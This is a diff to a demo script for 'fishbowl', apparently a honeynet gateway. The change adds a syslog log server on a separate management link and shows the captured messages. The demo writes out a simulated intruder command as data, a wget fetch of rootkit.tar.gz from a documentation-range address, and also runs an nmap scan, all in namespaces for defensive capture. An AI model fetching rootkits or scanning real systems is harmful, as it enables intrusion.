@@ -13,7 +13,9 @@
 # limit (5 new TCP connections an hour) blocks the honeypot, a spoofed SYN
 # flood (hping3) and a ping out (ICMP is blocked).  Then `fishbowl status`, a
 # summary of the capture and of what the capture layers recovered
-# (transcripts, keystrokes, IRC lines, carved files and their SHA-256), and
+# (transcripts, keystrokes, IRC lines, carved files and their SHA-256, the
+# honeypot's syslog received by fishbowl's log server on a management link
+# of its own), and
 # the data directory left in demo/out/.  Run as root (make demo).
 set -u
 cd "$(dirname "$0")/.." || exit 1
@@ -172,7 +174,13 @@ fbn_wait_port "$FBN_OUT" 6667 || die "IRC server did not start"
 say "honeypot services: http (80), telnet (23, inetutils telnetd)"
 say "outside: toolkit web server 203.0.113.80, FTP server 203.0.113.21, IRC server 203.0.113.7"
 
-step "2. fishbowl starts as the gateway"
+step "2. fishbowl starts as the gateway (and as the honeynet's log server)"
+# The log server listens on a management link of its own (192.0.2.0/30
+# between gateway and honeypot): the bridge legs keep no address.
+ip link add gwl netns "$FBN_GW" type veth peer name h1 netns "$FBN_HP" &&
+    inG ip addr add 192.0.2.1/30 dev gwl && inG ip link set gwl up &&
+    inH ip addr add 192.0.2.2/30 dev h1 && inH ip link set h1 up ||
+    die "cannot make the log link"
 fbn_conf demo <<'EOF'
 [control]
 tcp = 5/hour
@@ -180,6 +188,9 @@ udp = 3/hour
 icmp = block
 other = block
 rate = 512kbit
+
+[logserver]
+listen = udp:192.0.2.1:514, tcp:192.0.2.1:514
 EOF
 sed 's/^/   /' "$FBN_CONF"
 fbn_start || die "fishbowl did not start: $(tail -5 "$FBN_FB_LOG")"
@@ -190,6 +201,13 @@ inO nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1024 $HP 2>&1 | grep -E '^[0-9]+/tc
 
 step "4. the attacker logs in by telnet and looks around"
 inO expect "$W/attack.exp" $HP || say "(the telnet session did not finish)"
+# The honeypot's shell logs each command to syslog (PROMPT_COMMAND style),
+# which goes to the log server over UDP and TCP.
+inH logger -n 192.0.2.1 -P 514 --udp -t bash -p local1.notice "HISTORY: PID=4242 UID=1000 id"
+inH logger -n 192.0.2.1 -P 514 --tcp --octet-count -t bash -p local1.notice \
+    "HISTORY: PID=4242 UID=1000 wget http://203.0.113.80/rootkit.tar.gz"
+inH logger -n 192.0.2.1 -P 514 --tcp -t sshd -p auth.info "Accepted password for admin from 203.0.113.66"
+say "the honeypot's syslog sent 3 messages to fishbowl's log server (192.0.2.1:514)"
 
 step "5. the intruder, on the honeypot, fetches a toolkit over HTTP and FTP"
 fetch() {	# label url
@@ -336,6 +354,11 @@ K = rd("keystrokes.jsonl")
 p("keystrokes: %d lines typed" % len(K))
 for k in K:
     p("  %s %-7s %s" % (k.get("ts", "")[11:19], k.get("source"), k.get("line")))
+Y = rd("syslog.jsonl")
+p("syslog: %d messages (log server and wire)" % len(Y))
+for y in Y:
+    p("  %s %-6s %-5s %-6s %s" % (y.get("ts", "")[11:19], y.get("source"), y.get("transport", ""),
+      y.get("app", ""), y.get("msg", y.get("message", ""))))
 I = rd("irc.jsonl")
 p("IRC: %d messages" % len(I))
 for m in I:
